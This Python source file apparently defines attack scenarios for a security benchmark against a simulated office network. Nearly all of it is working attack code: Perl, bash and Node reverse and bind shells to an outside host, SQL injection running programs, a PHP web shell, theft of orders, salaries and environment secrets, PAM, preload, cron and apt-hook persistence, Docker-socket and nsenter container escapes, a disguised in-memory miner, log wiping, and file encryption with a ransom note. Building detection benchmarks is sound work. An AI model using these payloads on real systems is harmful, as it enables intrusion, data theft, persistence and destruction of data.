"""The attacks on the office."""

import base64

from ...attacks import OUTSIDE, Attack, itself, run
from .network import NETWORK
from .ways import TOKEN


def by(how, name, service, *order, objects=(), starts=True, reached=(), **more):
    """By one of the office's holes."""
    return Attack(name, service, how, order, tuple(objects), starts=starts, reached=reached, **more)


def program(script):
    """A statement by which the database runs it."""
    return f"CREATE TEMP TABLE o (line text); COPY o FROM PROGRAM $p${script} # {TOKEN}$p$"


def perl(code):
    """As it is often brought along: where no quote can break it."""
    return f"echo {base64.b64encode(code.encode()).decode()} | base64 -d | perl"


PERL_SHELL = f"""use IO::Socket::INET; my $s = IO::Socket::INET->new("{OUTSIDE}:4444") or die;
open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s); exec("/bin/sh", "-i");"""
PERL_LISTENER = """use IO::Socket::INET; alarm 4; my $l = IO::Socket::INET->new(LocalPort => 6200, Listen => 1, ReuseAddr => 1) or die;
my $c = $l->accept; open(STDIN, "<&", $c); open(STDOUT, ">&", $c); exec("/bin/sh");"""
# Bytes are written back as they were read.
PERL_MEMORY = r"""open(my $maps, "<", "/proc/1/maps") or die; my ($at) = map { /^(\w+)-\w+ rw/ ? hex $1 : () } <$maps>;
open(my $memory, "+<", "/proc/1/mem") or die; sysseek($memory, $at, 0); sysread($memory, my $word, 8);
sysseek($memory, $at, 0); syswrite($memory, $word);"""
PERL_MINER = f"""$^F = 255; my $memory = syscall(`uname -m` =~ /x86/ ? 319 : 279, my $name = "kworker", 0); open(my $out, ">&=", $memory) or die;
binmode $out; open(my $in, "<", "/usr/bin/nc") or die; local $/; print {{$out}} <$in>; $out->flush;
open(STDIN, "-|") || do {{ print '{{"id":1,"method":"mining.subscribe"}}', "\\n"; sleep 2; exit }};
exec {{"/proc/$$/fd/$memory"}} "[kworker/0:1]", "-w", "2", "{OUTSIDE}", "3333";"""
PERL_NAMES = f"""use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "{OUTSIDE}", PeerPort => 53, Proto => "udp") or die;
for my $n (1 .. 60) {{ my $label = join "", map {{ sprintf "%02x", rand 256 }} 1 .. 24;
$s->send(pack("n6 C/a C/a C/a x n2", $n, 256, 1, 0, 0, 0, $label, "evil", "example", 16, 1)); }}"""
PERL_LOCK = """for my $f (glob "/srv/ftp/scans/*.pdf") { open(my $i, "<", $f) or next; local $/; my $t = <$i>;
open(my $o, ">", "$f.locked") or next; print $o ($t ^ ("k3y" x (1 + length($t) / 3))); close $o; unlink $f; }"""
NODE_SHELL = f"""var s=require('net').connect(4444,'{OUTSIDE}',function(){{
var c=require('child_process').spawn('/bin/bash',['--norc','-s','{TOKEN}']);s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s)}});
s.on('error',function(){{}})"""
NODE_THEFT = f"""var f=require('fs'),t=f.readFileSync('/srv/api/data/orders.jsonl')+f.readFileSync('/proc/self/environ');
var r=require('http').request({{host:'{OUTSIDE}',method:'POST',path:'/in'}});r.on('error',function(){{}});r.end(t)"""
NODE_BEACON = f"""
if (!cluster.isPrimary) {{
    let left = 30;
    const beacon = setInterval(() => {{
        if (left-- < 0) return clearInterval(beacon);
        http.get('http://{OUTSIDE}/beacon', found => found.resume()).on('error', () => {{}});
    }}, 300);
}}
"""
CACHE_DUMP = r"""bash -c 'exec 3<>/dev/tcp/cache/11211; printf "stats items\r\nlru_crawler metadump all\r\nquit\r\n" >&3; timeout 2 cat <&3'"""
GUESSES = """php -r 'foreach (range(1, 25) as $n) @pg_connect("host=database dbname=office user=postgres password=guess$n");'"""
SCAN = f"""bash -c 'for h in {" ".join(map(str, NETWORK.hosts.values()))}; do for p in 21 22 25 80 443 3306 5432 6379 8080 11211; do
timeout 0.05 bash -c "</dev/tcp/{NETWORK.prefix}.$h/$p" 2>/dev/null; done; done'"""
PAM = """printf '#!/bin/sh\\nid >>/var/tmp/.seen\\n' | sudo tee /usr/lib/pam-mail-check >/dev/null; sudo chmod 755 /usr/lib/pam-mail-check
echo 'session optional pam_exec.so /usr/lib/pam-mail-check' | sudo tee -a /etc/pam.d/sshd"""
PRELOAD = """cp /usr/lib/breach.so /usr/lib/libnss_cache.so.2; echo /usr/lib/libnss_cache.so.2 >/etc/ld.so.preload; id"""
CRONTAB = f"""(crontab -l 2>/dev/null; echo "* * * * * curl -s -m 2 http://{OUTSIDE}/beacon >/dev/null; : $0") | crontab -"""
HOOK = f"""echo 'APT::Update::Pre-Invoke {{"curl -s -m 2 http://{OUTSIDE}/hook >/dev/null";}};' >/etc/apt/apt.conf.d/05periodic; apt-get -q update"""
MASQUERADE = f"""cp /usr/bin/curl /usr/lib/postfix/sbin/anvil2; touch -r /usr/lib/postfix/sbin/anvil /usr/lib/postfix/sbin/anvil2
/usr/lib/postfix/sbin/anvil2 -s http://{OUTSIDE}/tool -o /var/tmp/.a"""
ALIAS = """echo "billing: \\"|/bin/bash -c 'id; hostname; : $0'\\"" >>/etc/aliases; newaliases
printf 'Subject: x\\n\\nhello\\n' | sendmail billing@office.example"""
LATERAL = """ssh -o StrictHostKeyChecking=no -o BatchMode=yes anna@login "id; ls -la /home; cat ~/.ssh/authorized_keys; : $0" """
LISTENER = f"""{perl(PERL_LISTENER)} & sleep 0.6; bash -c 'exec 3<>/dev/tcp/127.0.0.1/6200; echo "id; exit" >&3; timeout 1 cat <&3'; wait"""
# Only to read, and without a network.
CREATE = """{"Image":"ethogram-bench-batch:latest","Labels":{"ethogram.bench":"1"},"Cmd":["sh","-c","ls /host/root; cat /host/etc/hostname","'$0'"],
"HostConfig":{"CapAdd":["SYS_ADMIN"],"NetworkMode":"none","Binds":["/:/host:ro"]}}"""
SOCKET = f"""ask="curl -s -m 5 --unix-socket /var/run/docker.sock"
$ask -H 'content-type: application/json' -d '{CREATE}' 'http://docker/containers/create?name=bench-escape'
$ask -X POST http://docker/containers/bench-escape/start"""
DISK = """sleep 1; while read -r major minor _ name; do mknod /tmp/$name b $major $minor && mount -o ro /tmp/$name /mnt && ls /mnt && umount /mnt
done </proc/partitions"""
POWERS = ("--cap-add", "SYS_ADMIN", "--cap-add", "SYS_PTRACE", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined")
EMPTIED = """sudo truncate -s 0 /var/log/wtmp /var/log/lastlog /var/log/btmp; sudo rm -f /var/log/dpkg.log /var/log/apt/history.log
ln -sf /dev/null ~/.bash_history"""
KEY = "/var/lib/postgresql/.ssh/authorized_keys"
RANSOM = "/var/lib/postgresql/README_TO_GET_IT_BACK.txt"

ATTACKS = (
    by("sql", "SQL injection: the database runs programs", "database", program("id; uname -a; hostname -I")),
    by("upload", "web shell uploaded", "portal", "help.php", b'<?php system($_REQUEST["c"]);', objects=(r"help\.php",), starts=False),
    by("ssh", "stolen key: rights and accounts looked up", "login", "carla",
       "sudo -l; getent passwd; find / -xdev -perm -4000 -type f 2>/dev/null; cat /etc/ssh/sshd_config"),
    by("deserialize", "deserialization: the API runs commands", "api", f"require('child_process').exec('id; env; cat /etc/passwd # {TOKEN}')"),
    by("mail", "command in the subject of a mail", "mail", f"curl -s http://{OUTSIDE}/stage.sh | bash", reached=("mail",)),
    by("shell", "web shell used", "portal", "id; cat /var/www/html/common.php; ls -la /etc/apache2 /home"),
    by("sql", "SQL injection: the database reads a private key", "database",
       "CREATE TEMP TABLE k (line text); COPY k FROM '/etc/ssl/private/ssl-cert-snakeoil.key'", objects=(r"snakeoil\.key",), starts=False),
    run("scan of the neighbours with bash", "cache", SCAN),
    by("inject", "command injection: reverse shell with bash", "portal", f"bash -c 'bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1'", reached=("portal",)),
    run("bind shell with perl", "files", LISTENER, apart=True, worker=True),
    by("deserialize", "API's shell joined to a socket by node", "api", NODE_SHELL, objects=(OUTSIDE,), reached=("api",)),
    by("ssh", "rights of sudo extended", "login", "carla", "echo 'anna ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/90-anna"),
    by("sql", "reverse shell with perl from the database", "database", program(perl(PERL_SHELL)), reached=("database",)),
    by("include", "any file shown as a page", "portal", "../../../../etc/passwd", objects=("etc/passwd",), starts=False),
    run("preload file for all programs", "batch", PRELOAD, (r"ld\.so\.preload", "libnss_cache"), lasts=True),
    by("relay", "mails to strangers relayed", "mail", f"victim%d@[{OUTSIDE}]", objects=(OUTSIDE,), starts=False, reached=("mail",)),
    by("shell", "cache dumped from the portal", "portal", CACHE_DUMP),
    by("ssh", "module for logins added", "login", "carla", PAM, objects=("pam-mail-check", r"pam\.d/sshd"), lasts=True),
    by("deserialize", "orders and environment sent away by node itself", "api", NODE_THEFT, objects=(OUTSIDE,), starts=False, reached=("api",)),
    by("ftp", "payroll fetched with a stolen password", "files", "reports", "quarterly", "payroll", objects=("payroll",), starts=False),
    by("sql", "the database writes an authorized key", "database", f"COPY (SELECT 'ssh-ed25519 AAAA evil') TO '{KEY}'", objects=("authorized_keys",),
       starts=False),
    run("lateral movement: from batch to login with its key", "batch", LATERAL),
    by("inject", "data in names, asked of a stranger with perl", "portal", perl(PERL_NAMES), reached=("portal",)),
    run("program copied under another name, with an old date", "mail", MASQUERADE),
    itself("the gateway calls a stranger", "gateway", "connect", OUTSIDE, "443", objects=(OUTSIDE,), worker=True),
    by("deserialize", "memory of a process written through /proc", "api", f"require('child_process').exec('{perl(PERL_MEMORY)} - {TOKEN}')"),
    by("ssh", "second account with all rights", "login", "carla", "sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbackup"),
    run("crontab with a beacon", "batch", CRONTAB, (OUTSIDE,), lasts=True),
    by("sql", "miner in memory, under the name of a kernel thread", "database", program(perl(PERL_MINER)), reached=("database",)),
    by("include", "code in an uploaded text", "portal", "../uploads/note-77.txt", f"<?php system('whoami; ls -la /var/www # {TOKEN}');"),
    run("alias that runs a program", "mail", ALIAS),
    by("forward", "pivot: login forwards to the database", "login", "bert", "database:5432", objects=(":5432",), starts=False),
    run("container made through the Docker socket", "batch", SOCKET),
    by("shell", "passwords of the database guessed", "portal", GUESSES),
    by("sql", "salaries sent away by a program of the database", "database",
       f"COPY salaries TO PROGRAM $p$curl -s -m 3 -o /dev/null -H Expect: -T - http://{OUTSIDE}/in # {TOKEN}$p$", reached=("database",)),
    Attack("container of the attacker's enters the host", "rogue", "container",
           ("sleep 1; nsenter -t 1 -m -u -n cat /etc/hostname", "--pid", "host", *POWERS), starts=True),
    run("hook of the package manager", "batch", HOOK, (r"05periodic", OUTSIDE), lasts=True),
    by("ssh", "logs emptied", "login", "carla", EMPTIED),
    Attack("container of the attacker's mounts the host's disk", "intruder", "container", (DISK, "--device-cgroup-rule", "b *:* rm", *POWERS), starts=True),
    run("files encrypted and removed", "files", perl(PERL_LOCK), (r"\.locked",), apart=True, worker=True),
    by("sql", "table dropped, and a demand left", "database", f"DROP TABLE salaries; COPY (SELECT 'pay') TO '{RANSOM}'",
       objects=("README_TO_GET",), starts=False),
    by("version", "new version of the API calls home", "api", "api", "srv/api/server.js", NODE_BEACON, objects=(OUTSIDE,), starts=False),
)
